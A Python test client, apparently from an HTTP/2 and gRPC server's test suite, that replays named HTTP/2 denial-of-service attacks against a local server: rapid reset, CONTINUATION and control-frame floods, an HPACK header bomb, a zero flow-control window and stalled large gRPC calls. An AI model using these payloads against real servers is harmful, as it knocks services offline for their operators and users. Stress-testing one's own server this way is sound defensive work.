#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What an attacker sends on one HTTP/2 connection, by name, behind the preface.

    tests/clients/h2attacks.py PORT NAME [SECONDS]

One connection after the other to 127.0.0.1, each as fast as the server takes it; in small writes, for while a system
without preemption copies megabytes, nobody else has its processor, and who measures the server may be on it too."""
import os
import socket
import struct
import sys
import time

from h2frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, INITIAL_WINDOW, PING, PREFACE,
                      PRIORITY, block, call, frame, message, request, reset, settings, window)

WRITE_BYTES = 8 << 10
ids = range(1, 2000, 2)

attacks = {
    "rapid reset": b"".join(request(i, call(), end=False) + reset(i) for i in ids),
    "resets it is made to send": b"".join(request(i, call(), end=False) + window(i, 0x7FFFFFFF) for i in ids),
    "CONTINUATION flood": request(1, end_headers=False) + 5000 * frame(CONTINUATION, 0, 1),
    "PING flood": 5000 * frame(PING, 0, 0, bytes(8)),
    "SETTINGS flood": 5000 * settings(),
    "empty DATA flood": request(1, call(), end=False) + 8000 * frame(DATA, 0, 1),
    "PRIORITY flood": 8000 * frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
    "WINDOW_UPDATE flood": 8000 * window(0, 1),
    "header bomb": b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, block(GET) + b"\x40\x01a\x7f\xa1\x1e" +
                                  b"x" * 4000 + b"\xbe" * 12000) for i in range(1, 41, 2)),
    "shut window": settings((INITIAL_WINDOW, 0)) + b"".join(request(i) for i in ids),
    "calls without an end": b"".join(request(i, call("/kinora.v1.Kinora/Submit"), end=False) for i in ids),
    "promised megabytes": b"".join(request(i, call("/kinora.v1.Kinora/Submit"), end=False) + frame(
        DATA, 0, i, message(bytes(8000), length=4 << 20)) for i in ids),
    "bad first bytes": os.urandom(4096),
}


def flood(port, name, seconds):
    until, data = time.monotonic() + seconds, PREFACE + settings() + attacks[name]
    while time.monotonic() < until:
        with socket.create_connection(("127.0.0.1", port), timeout=0.2) as c:
            try:
                for at in range(0, len(data), WRITE_BYTES):
                    c.sendall(data[at:at + WRITE_BYTES])
                while time.monotonic() < until and c.recv(1 << 16):
                    pass
            except OSError:  # it takes no more, says no more, or has closed
                pass


if __name__ == "__main__":
    flood(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]) if len(sys.argv) > 3 else 1.0)
